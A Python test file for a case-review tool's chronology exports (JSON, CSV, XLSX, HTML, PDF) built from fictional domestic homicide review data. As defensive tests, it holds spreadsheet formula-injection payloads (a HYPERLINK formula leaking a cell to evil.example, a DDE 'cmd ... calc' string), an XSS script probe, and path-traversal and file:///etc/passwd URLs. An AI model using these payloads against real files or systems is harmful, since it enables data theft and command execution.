"""The integrated chronology exports: JSON, CSV, XLSX, print HTML and PDF, and the PDF helper's
URL fetcher. Chronologies are built as plain data (no database); PDFs are checked by their text."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import socket
import subprocess
import zoneinfo
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from casereview.pdf import PDF_BASE_URL, ResourceRefused, StaticFilesFetcher, html_to_pdf
from casereview.spreadsheets import XLSX_CELL_LIMIT, spreadsheet_safe
from chronology.exports.data import ExportChronology, ExportEntry, ExportEpisode, ExportGap, ExportLink
from chronology.exports.formats import (
    CHRONOLOGY_SHEET,
    COLUMNS,
    GAPS_SHEET,
    XLSX_TRUNCATED,
    chronology_csv,
    chronology_html,
    chronology_json,
    chronology_pdf,
    chronology_xlsx,
    is_long_entry,
    table_rows,
)

BUILT_AT = datetime.datetime(2026, 1, 1, 12, 0, tzinfo=datetime.UTC)
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]
TIMELINE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1000 100">'
    '<rect width="1000" height="100" fill="#eef"/><line x1="20" y1="50" x2="980" y2="50" stroke="#000"/>'
    '<text x="30" y="30" font-size="18">TIMELINE-PLACEHOLDER</text></svg>'
)


def make_entry(seq: int, day: datetime.date, **fields: object) -> ExportEntry:
    values: dict[str, object] = {
        "seq": seq,
        "date_start": day,
        "date_end": day,
        "precision": "day",
        "date_display": f"{day:%d/%m/%Y}",
        "time": None,
        "agency": "Police",
        "people": ["the victim"],
        "source": f"Incident log {seq}",
        "practitioner": "Response officer",
        "event": "Home visit",
        "details": f"Details of entry {seq}.",
        "outcome": "",
        "comment": "",
        "significant": False,
        "in_scope": True,
    }
    values.update(fields)
    return ExportEntry(**values)  # type: ignore[arg-type]


def make_chronology(entries: list[ExportEntry], **fields: object) -> ExportChronology:
    values: dict[str, object] = {
        "reference": "BDHR2012/13-04",
        "review_type": "dhr",
        "review_type_label": "Domestic Homicide Review",
        "case_name": "Family B",
        "partnership": "Borough Community Safety Partnership",
        "scope_start": datetime.date(2008, 4, 1),
        "scope_end": datetime.date(2012, 8, 10),
        "built_at": BUILT_AT,
        "version": 3,
        "names": "designations",
        "agencies": sorted({entry.agency for entry in entries}),
        "entries": entries,
        "gaps": [],
        "episodes": [],
        "marking": "OFFICIAL-SENSITIVE",
    }
    values.update(fields)
    return ExportChronology(**values)  # type: ignore[arg-type]


def small_chronology(**fields: object) -> ExportChronology:
    """Three entries: one before the review period, a gap, then two in a key episode."""
    entries = [
        make_entry(
            1,
            datetime.date(2000, 8, 1),
            date_end=datetime.date(2000, 8, 31),
            precision="month",
            date_display="Aug 2000",
            agency="Probation",
            people=["the perpetrator"],
            source="OASys",
            practitioner="Offender manager",
            event="Supervision",
            details="Perpetrator released on licence.",
            outcome="Licence conditions set.",
            comment="No check with police.",
            in_scope=False,
        ),
        make_entry(
            2,
            datetime.date(2010, 3, 15),
            time=datetime.time(14, 30),
            agency="Police",
            people=["the victim", "Child 1"],
            source="Incident 1234",
            event="Domestic incident",
            details="Officers attended after a neighbour reported shouting.",
            outcome="DASH completed: standard risk.",
            significant=True,
            episode="The first key episode",
            links=[ExportLink("possible_duplicate", 3, "suggested")],
        ),
        make_entry(
            3,
            datetime.date(2010, 3, 16),
            agency="Children's social care",
            people=["Child 1"],
            source="Case file",
            practitioner="Social worker",
            event="Referral",
            details="Referral received from police.",
            episode="The first key episode",
            links=[ExportLink("possible_duplicate", 2, "suggested"), ExportLink("date_conflict", 1, "dismissed")],
        ),
    ]
    values: dict[str, object] = {
        "gaps": [ExportGap(datetime.date(2008, 4, 1), datetime.date(2010, 3, 14), 713)],
        "episodes": [ExportEpisode("The first key episode", datetime.date(2010, 3, 1), datetime.date(2010, 10, 31))],
    }
    values.update(fields)
    return make_chronology(entries, **values)


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "out.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True).stdout


def pdf_pages(pdf: bytes, tmp_path: Path) -> int:
    path = tmp_path / "count.pdf"
    path.write_bytes(pdf)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, check=True, text=True).stdout
    return int(re.search(r"^Pages:\s+(\d+)$", info, re.MULTILINE).group(1))


# --- JSON -----------------------------------------------------------------------------------


def test_json_is_the_documented_shape():
    data = json.loads(chronology_json(small_chronology()).decode("utf-8"))

    assert data == {
        "review": {
            "reference": "BDHR2012/13-04",
            "type": "dhr",
            "scope_start": "2008-04-01",
            "scope_end": "2012-08-10",
        },
        "built_at": "2026-01-01T12:00:00Z",
        "entries": [
            {
                "seq": 1,
                "date_start": "2000-08-01",
                "date_end": "2000-08-31",
                "precision": "month",
                "date_display": "Aug 2000",
                "time": None,
                "agency": "Probation",
                "people": ["the perpetrator"],
                "source": "OASys",
                "practitioner": "Offender manager",
                "event": "Supervision",
                "details": "Perpetrator released on licence.",
                "outcome": "Licence conditions set.",
                "comment": "No check with police.",
                "significant": False,
                "in_scope": False,
                "links": [],
                "episode": None,
            },
            {
                "seq": 2,
                "date_start": "2010-03-15",
                "date_end": "2010-03-15",
                "precision": "day",
                "date_display": "15/03/2010",
                "time": "14:30",
                "agency": "Police",
                "people": ["the victim", "Child 1"],
                "source": "Incident 1234",
                "practitioner": "Response officer",
                "event": "Domestic incident",
                "details": "Officers attended after a neighbour reported shouting.",
                "outcome": "DASH completed: standard risk.",
                "comment": "",
                "significant": True,
                "in_scope": True,
                "links": [{"kind": "possible_duplicate", "seq": 3, "status": "suggested"}],
                "episode": "The first key episode",
            },
            {
                "seq": 3,
                "date_start": "2010-03-16",
                "date_end": "2010-03-16",
                "precision": "day",
                "date_display": "16/03/2010",
                "time": None,
                "agency": "Children's social care",
                "people": ["Child 1"],
                "source": "Case file",
                "practitioner": "Social worker",
                "event": "Referral",
                "details": "Referral received from police.",
                "outcome": "",
                "comment": "",
                "significant": False,
                "in_scope": True,
                "links": [
                    {"kind": "possible_duplicate", "seq": 2, "status": "suggested"},
                    {"kind": "date_conflict", "seq": 1, "status": "dismissed"},
                ],
                "episode": "The first key episode",
            },
        ],
        "gaps": [{"start": "2008-04-01", "end": "2010-03-14", "days": 713}],
        "episodes": [{"title": "The first key episode", "start": "2010-03-01", "end": "2010-10-31"}],
    }


def test_json_keys_come_in_the_documented_order_with_additions_last():
    data = json.loads(chronology_json(small_chronology()))

    assert list(data) == ["review", "built_at", "entries", "gaps", "episodes"]
    assert list(data["review"]) == ["reference", "type", "scope_start", "scope_end"]
    assert list(data["entries"][0]) == [
        "seq", "date_start", "date_end", "precision", "date_display", "time", "agency", "people", "source",
        "practitioner", "event", "details", "outcome", "comment", "significant", "in_scope", "links", "episode",
    ]  # fmt: skip
    assert list(data["entries"][1]["links"][0]) == ["kind", "seq", "status"]
    assert list(data["gaps"][0]) == ["start", "end", "days"]


def test_json_built_at_is_converted_to_utc():
    london = datetime.datetime(2026, 7, 1, 13, 5, 9, 123456, tzinfo=zoneinfo.ZoneInfo("Europe/London"))

    data = json.loads(chronology_json(small_chronology(built_at=london)))

    assert data["built_at"] == "2026-07-01T12:05:09Z"


def test_json_is_utf8_not_ascii_escaped():
    chronology = small_chronology(case_name="Família B")
    entries = [replace(chronology.entries[0], details="Café – “quoted”")]

    raw = chronology_json(replace(chronology, entries=entries))

    assert "Café – “quoted”".encode() in raw


# --- Formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_spreadsheet_safe_prefixes_formula_triggers_with_a_quote(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Home visit", "", "1+1", " =not at the start", "'already quoted", 7, -2, None])
def test_spreadsheet_safe_leaves_everything_else_alone(value):
    assert spreadsheet_safe(value) == value


def payload_chronology() -> ExportChronology:
    """One entry per payload, the payload in every free-text column."""
    entries = [
        make_entry(
            seq,
            datetime.date(2010, 1, seq),
            agency=payload,
            people=[payload],
            source=payload,
            practitioner=payload,
            event=payload,
            details=payload,
            outcome=payload,
            comment=payload,
            episode=payload,
        )
        for seq, payload in enumerate(FORMULA_PAYLOADS, start=1)
    ]
    return make_chronology(entries)


# --- CSV ------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_and_header_row():
    raw = chronology_csv(small_chronology())

    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "Seq", "Date", "Date from", "Date to", "Precision", "Time", "Agency", "Person(s)", "Source", "Practitioner",
        "Event", "Details", "Action / Outcome", "Comment", "Significant", "In review period", "Key episode", "Links",
    ]  # fmt: skip
    assert len(rows) == 1 + 3


def test_csv_row_holds_the_entry():
    raw = chronology_csv(small_chronology())

    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[1] == {
        "Seq": "2",
        "Date": "15/03/2010",
        "Date from": "2010-03-15",
        "Date to": "2010-03-15",
        "Precision": "day",
        "Time": "14:30",
        "Agency": "Police",
        "Person(s)": "the victim; Child 1",
        "Source": "Incident 1234",
        "Practitioner": "Response officer",
        "Event": "Domestic incident",
        "Details": "Officers attended after a neighbour reported shouting.",
        "Action / Outcome": "DASH completed: standard risk.",
        "Comment": "",
        "Significant": "Yes",
        "In review period": "Yes",
        "Key episode": "The first key episode",
        "Links": "possible duplicate of 3 (suggested)",
    }
    assert rows[0]["Significant"] == "No"
    assert rows[0]["In review period"] == "No"
    assert rows[2]["Links"] == "possible duplicate of 2 (suggested); date conflict with 1 (dismissed)"


def test_csv_escapes_formula_payloads_in_every_text_column():
    raw = chronology_csv(payload_chronology())

    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULA_PAYLOADS)
    text_columns = ["Agency", "Person(s)", "Source", "Practitioner", "Event", "Details", "Action / Outcome"]
    text_columns += ["Comment", "Key episode"]
    for row, payload in zip(rows, FORMULA_PAYLOADS, strict=True):
        for column in text_columns:
            assert row[column] == "'" + payload, column


def test_csv_keeps_newlines_inside_a_quoted_cell():
    chronology = make_chronology([make_entry(1, datetime.date(2010, 1, 1), details="First line.\nSecond line.")])

    rows = list(csv.DictReader(io.StringIO(chronology_csv(chronology).decode("utf-8-sig"), newline="")))

    assert rows[0]["Details"] == "First line.\nSecond line."


# --- XLSX -----------------------------------------------------------------------------------


def test_xlsx_sheets_header_filter_and_properties():
    workbook = load_workbook(io.BytesIO(chronology_xlsx(small_chronology())))

    assert workbook.sheetnames == [CHRONOLOGY_SHEET, GAPS_SHEET]
    assert workbook.sheetnames[0] == "Integrated chronology"
    assert workbook.properties.title == "BDHR2012/13-04 integrated chronology"
    sheet = workbook[CHRONOLOGY_SHEET]
    assert [cell.value for cell in sheet[1]] == [name for name, _width in COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:R4"
    # Details: 60 characters as Excel shows them (it stores them with the cell padding, 60.71).
    assert sheet.column_dimensions["L"].width == pytest.approx(60.71, abs=0.01)
    assert sheet["L2"].alignment.wrap_text
    assert sheet.max_row == 4


def test_xlsx_printed_pages_carry_reference_marking_and_personal_data_warning():
    designations = load_workbook(io.BytesIO(chronology_xlsx(small_chronology())))[CHRONOLOGY_SHEET]
    real = load_workbook(io.BytesIO(chronology_xlsx(small_chronology(names="real"))))[CHRONOLOGY_SHEET]

    assert designations.oddHeader.left.text == "BDHR2012/13-04"
    assert designations.oddHeader.right.text == "OFFICIAL-SENSITIVE"
    assert designations.oddFooter.right.text == "Page &P of &N"
    assert not designations.oddHeader.center.text
    assert real.oddHeader.center.text == "Contains personal data"
    assert designations.page_setup.orientation == "landscape"


def test_xlsx_dates_are_real_date_cells():
    sheet = load_workbook(io.BytesIO(chronology_xlsx(small_chronology())))[CHRONOLOGY_SHEET]

    date_from, date_to = sheet["C2"], sheet["D2"]
    assert date_from.is_date and date_to.is_date
    assert date_from.value.date() == datetime.date(2000, 8, 1)
    assert date_to.value.date() == datetime.date(2000, 8, 31)
    assert date_from.number_format == "dd/mm/yyyy"
    assert sheet["B2"].value == "Aug 2000"  # the date as the agency gave it stays text
    assert sheet["A3"].value == 2
    assert sheet["R3"].value == "possible duplicate of 3 (suggested)"


def test_xlsx_gaps_sheet():
    sheet = load_workbook(io.BytesIO(chronology_xlsx(small_chronology())))[GAPS_SHEET]

    assert [cell.value for cell in sheet[1]] == ["From", "To", "Days", "Description"]
    assert sheet["A2"].value.date() == datetime.date(2008, 4, 1)
    assert sheet["B2"].value.date() == datetime.date(2010, 3, 14)
    assert sheet["C2"].value == 713
    assert sheet["D2"].value == "No agency contact for 713 days (1 April 2008 to 14 March 2010)"
    assert sheet.freeze_panes == "A2"


def test_xlsx_has_no_formula_cells_and_payloads_read_back_as_escaped_text():
    workbook = load_workbook(io.BytesIO(chronology_xlsx(payload_chronology())))

    sheet = workbook[CHRONOLOGY_SHEET]
    for sheet_ in workbook.worksheets:
        assert not [cell.coordinate for row in sheet_.iter_rows() for cell in row if cell.data_type == "f"]
    for row, payload in zip(sheet.iter_rows(min_row=2, values_only=True), FORMULA_PAYLOADS, strict=True):
        for value in row[6:14]:  # Agency to Comment
            assert isinstance(value, str)
            assert value == "'" + payload


def test_xlsx_drops_control_characters_before_escaping():
    entry = make_entry(1, datetime.date(2010, 1, 1), details="\x0b=cmd|' /C calc'!A0", comment="bell\x07 here")

    sheet = load_workbook(io.BytesIO(chronology_xlsx(make_chronology([entry]))))[CHRONOLOGY_SHEET]

    assert sheet["L2"].value == "'=cmd|' /C calc'!A0"
    assert sheet["N2"].value == "bell here"


def test_xlsx_truncates_text_longer_than_excel_allows():
    entry = make_entry(1, datetime.date(2010, 1, 1), details="x" * 40_000)

    sheet = load_workbook(io.BytesIO(chronology_xlsx(make_chronology([entry]))))[CHRONOLOGY_SHEET]

    assert len(sheet["L2"].value) == XLSX_CELL_LIMIT
    assert sheet["L2"].value.endswith(XLSX_TRUNCATED)


def test_xlsx_of_an_empty_chronology():
    workbook = load_workbook(io.BytesIO(chronology_xlsx(make_chronology([]))))

    assert workbook[CHRONOLOGY_SHEET].max_row == 1


# --- Print HTML -----------------------------------------------------------------------------


def test_table_rows_put_gaps_and_episode_headings_in_date_order():
    chronology = small_chronology(
        gaps=[
            ExportGap(datetime.date(2008, 4, 1), datetime.date(2010, 3, 14), 713),
            ExportGap(datetime.date(2010, 3, 17), datetime.date(2012, 8, 10), 878),
        ]
    )

    rows = [(row.kind, row.entry.seq if row.entry else row.text) for row in table_rows(chronology)]

    assert rows == [
        ("entry", 1),
        ("gap", "No agency contact for 713 days (1 April 2008 to 14 March 2010)"),
        ("episode", "The first key episode (1 March 2010 to 31 October 2010)"),
        ("entry", 2),
        ("entry", 3),
        ("gap", "No agency contact for 878 days (17 March 2010 to 10 August 2012)"),
    ]


def test_table_rows_repeat_the_heading_when_an_episode_is_entered_again():
    entries = [
        make_entry(1, datetime.date(2010, 1, 1), episode="A"),
        make_entry(2, datetime.date(2010, 1, 2)),
        make_entry(3, datetime.date(2010, 1, 3), episode="A"),
        make_entry(4, datetime.date(2010, 1, 4), episode="B"),
    ]

    kinds = [row.kind if row.kind != "episode" else row.text for row in table_rows(make_chronology(entries))]

    assert kinds == ["A", "entry", "entry", "A", "entry", "B", "entry"]


def test_html_links_the_print_stylesheet_by_static_url_and_escapes_text():
    entry = make_entry(1, datetime.date(2010, 1, 1), details="<script>alert(1)</script>")

    html = chronology_html(make_chronology([entry]))

    assert 'href="/static/css/print-chronology.css"' in html
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# --- PDF ------------------------------------------------------------------------------------


def test_pdf_has_title_block_table_and_page_furniture(tmp_path):
    pdf = chronology_pdf(small_chronology())

    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf, tmp_path)
    for expected in [
        "Borough Community Safety Partnership",
        "Domestic Homicide Review",
        "Family B",
        "BDHR2012/13-04",
        "Integrated chronology",
        "Version 3",
        "Built 1 January 2026",
        "Names: designations",
        "OFFICIAL-SENSITIVE",
        "Page 1 of 1",
        "Action / Outcome",
        "Perpetrator released on licence.",
        "Officers attended after a neighbour reported shouting.",
        "Referral received from police.",
        "No agency contact for 713 days (1 April 2008 to 14 March 2010)",
        "The first key episode (1 March 2010 to 31 October 2010)",
        "SIGNIFICANT",
        "OUTSIDE THE",
    ]:
        assert expected in text, expected
    assert "Contains personal data" not in text


def test_pdf_with_real_names_says_contains_personal_data_on_every_page(tmp_path):
    entries = [make_entry(seq, datetime.date(2010, 1, 1), details="A long record. " * 60) for seq in range(1, 30)]

    pdf = chronology_pdf(make_chronology(entries, names="real", marking="OFFICIAL-SENSITIVE"))

    pages = pdf_text(pdf, tmp_path).split("\f")[:-1]
    assert len(pages) > 1
    for page in pages:
        header = page.strip().splitlines()[0]
        assert "Contains personal data" in header
        assert "BDHR2012/13-04" in header and "OFFICIAL-SENSITIVE" in header
    assert "Names: real names" in pages[0]


def test_pdf_timeline_comes_before_the_table(tmp_path):
    text = pdf_text(chronology_pdf(small_chronology(), timeline_svg=TIMELINE_SVG), tmp_path)

    assert "TIMELINE-PLACEHOLDER" in text
    assert text.index("TIMELINE-PLACEHOLDER") < text.index("Action / Outcome")


def test_pdf_long_unbroken_text_wraps_inside_the_page(tmp_path):
    token = "https://example.org/" + "abcdefghij" * 40
    entry = make_entry(1, datetime.date(2010, 1, 1), details=f"See {token} for the record. " + "Word " * 400)
    path = tmp_path / "wide.pdf"
    path.write_bytes(chronology_pdf(make_chronology([entry])))

    bbox = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, check=True, text=True).stdout

    page_width = float(re.search(r'<page width="([\d.]+)"', bbox).group(1))
    right_edges = [float(x) for x in re.findall(r'<word xMin="[\d.]+" yMin="[\d.]+" xMax="([\d.]+)"', bbox)]
    assert page_width == pytest.approx(841.89, abs=1)  # A4 landscape
    assert max(right_edges) <= page_width - 28  # inside the 10 mm right margin
    assert "abcdefghij" in bbox


def test_only_long_entries_may_break_across_pages():
    short = make_entry(1, datetime.date(2010, 1, 1), details="Home visit; no concerns.")
    long_details = make_entry(2, datetime.date(2010, 1, 2), details="Word " * 200)
    many_paragraphs = make_entry(3, datetime.date(2010, 1, 3), comment="Point.\n" * 20)
    tall_narrow_column = make_entry(4, datetime.date(2010, 1, 4), agency="Strategy discussion " * 20)

    assert not is_long_entry(short)
    assert is_long_entry(long_details)
    assert is_long_entry(many_paragraphs)
    assert is_long_entry(tall_narrow_column)
    rows = table_rows(make_chronology([short, long_details]))
    assert [row.long for row in rows] == [False, True]


def test_pdf_of_an_entry_longer_than_a_page_keeps_all_its_text_and_the_headings(tmp_path):
    words = [f"w{number:04d}" for number in range(1500)]
    entries = [
        make_entry(1, datetime.date(2010, 1, 1)),
        make_entry(2, datetime.date(2010, 1, 2), details=" ".join(words), event="Strategy discussion " * 40),
        make_entry(3, datetime.date(2010, 1, 3), details="The entry after."),
    ]

    pages = pdf_text(chronology_pdf(make_chronology(entries)), tmp_path).split("\f")[:-1]

    assert len(pages) >= 3
    text = "".join(pages)
    assert all(word in text for word in words)
    assert "The entry after." in pages[-1]
    for page in pages:
        assert "Action / Outcome" in page  # the column headings repeat on every page


def test_pdf_of_an_empty_chronology(tmp_path):
    text = pdf_text(chronology_pdf(make_chronology([])), tmp_path)

    assert "The integrated chronology has no entries." in text


@pytest.mark.slow
def test_pdf_of_2000_entries_has_the_header_on_every_page(tmp_path):
    agencies = ["Police", "Children's social care", "GP practice", "Health visiting", "Housing"]
    entries = [
        make_entry(
            seq,
            datetime.date(2008, 4, 1) + datetime.timedelta(days=seq // 2),
            agency=agencies[seq % len(agencies)],
            details=f"Entry {seq}: officers attended the address after a report of shouting and spoke to both adults.",
            outcome="Referral to children's social care." if seq % 3 == 0 else "",
            significant=seq % 50 == 0,
        )
        for seq in range(1, 2001)
    ]

    pdf = chronology_pdf(make_chronology(entries))

    pages = pdf_pages(pdf, tmp_path)
    assert pages > 20
    text = pdf_text(pdf, tmp_path).split("\f")[:-1]
    assert len(text) == pages
    for number, page in enumerate(text, start=1):
        header = page.strip().splitlines()[0]
        assert "BDHR2012/13-04" in header and "OFFICIAL-SENSITIVE" in header, number
        assert f"Page {number} of {pages}" in page
    assert "Entry 2000:" in text[-1]


# --- The PDF helper's URL fetcher -----------------------------------------------------------


def test_fetcher_serves_static_files_from_disk():
    response = StaticFilesFetcher()(PDF_BASE_URL + "static/css/print-chronology.css")

    assert response.content_type == "text/css"
    assert b"@page" in response.read()


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/x.png",
        "https://casereview.invalid/media/evidence.pdf",
        "https://casereview.invalid/static/../casereview/settings.py",
        "https://casereview.invalid/static/%2e%2e/casereview/settings.py",
        "https://casereview.invalid/static/does-not-exist.css",
        "https://casereview.invalid.example.com/static/css/print-chronology.css",
        "file:///etc/passwd",
        "data:text/css,body{}",
    ],
)
def test_fetcher_refuses_anything_but_our_static_files(url):
    with pytest.raises(ResourceRefused):
        StaticFilesFetcher()(url)


def test_rendering_never_touches_the_network(monkeypatch, tmp_path):
    connections: list[object] = []

    def no_network(*args: object, **kwargs: object) -> None:
        connections.append(args)
        raise OSError("network disabled in tests")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    fetched: list[tuple[str, str]] = []
    original_fetch = StaticFilesFetcher.fetch

    def spy_fetch(self: StaticFilesFetcher, url: str, headers: dict[str, str] | None = None):
        try:
            response = original_fetch(self, url, headers)
        except ResourceRefused:
            fetched.append((url, "refused"))
            raise
        fetched.append((url, "served"))
        return response

    monkeypatch.setattr(StaticFilesFetcher, "fetch", spy_fetch)
    html = (
        '<html><head><link rel="stylesheet" href="/static/css/print-chronology.css">'
        '<link rel="stylesheet" href="file:///etc/passwd"></head>'
        '<body><p>Panel notes</p><img src="http://example.com/x.png" alt="tracker"></body></html>'
    )

    pdf = html_to_pdf(html, base_url=PDF_BASE_URL).data

    assert connections == []
    assert (PDF_BASE_URL + "static/css/print-chronology.css", "served") in fetched
    assert ("http://example.com/x.png", "refused") in fetched
    assert ("file:///etc/passwd", "refused") in fetched
    assert "Panel notes" in pdf_text(pdf, tmp_path)
